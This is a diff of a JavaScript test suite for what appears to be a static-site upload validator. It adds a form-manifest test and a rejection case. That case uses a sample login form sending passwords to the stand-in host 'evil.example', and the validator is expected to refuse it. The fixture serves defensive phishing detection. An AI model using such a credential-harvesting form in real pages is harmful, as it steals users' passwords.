@@ -101,6 +101,14 @@ describe('a zip that is sent', () => {
     expect(headers).toHaveLength(1);
   });
 
+  it('has its forms declared', async () => {
+    const form = '<form data-form="hello" method="post"><input name="words"></form>';
+    await upload(entries('index.html', { name: 'contact.html', content: form }));
+    expect((await manifest()).forms).toMatchObject([
+      { name: 'hello', path: 'contact.html', fields: ['words'] },
+    ]);
+  });
+
   it('has compressed copies where they save a tenth', async () => {
     const page = '<p>The same words again and again.</p>'.repeat(100);
     await upload(entries({ name: 'index.html', content: page }, { name: 'a.png', content: page }));
@@ -133,6 +141,17 @@ describe('nothing is kept of', () => {
       'Two files have the same name',
     ],
     ['an empty segment', ['index.html', 'a//b.html'], 'no address can have'],
+    [
+      'a page that sends passwords elsewhere',
+      [
+        'index.html',
+        {
+          name: 'in.html',
+          content: '<form action="https://evil.example"><input type="password" name="p"></form>',
+        },
+      ],
+      'in.html: This page has a form that asks for a password',
+    ],
     [
       'rules that are not understood',
       ['index.html', { name: '_redirects', content: '/a /b 999' }],
@@ -253,7 +272,7 @@ describe('a project', () => {
     expect(await site.visit(name)).toBe('unknown');
   });
 
-  it('whose zip is elsewhere is refused with a sentence', async () => {
+  it('whose zip is not there any more is refused with a sentence', async () => {
     const id = await share(ada);
     await site.rows(
       `update public.projects set zip_file_url = 'https://example.org/a.zip' where id = $1`,
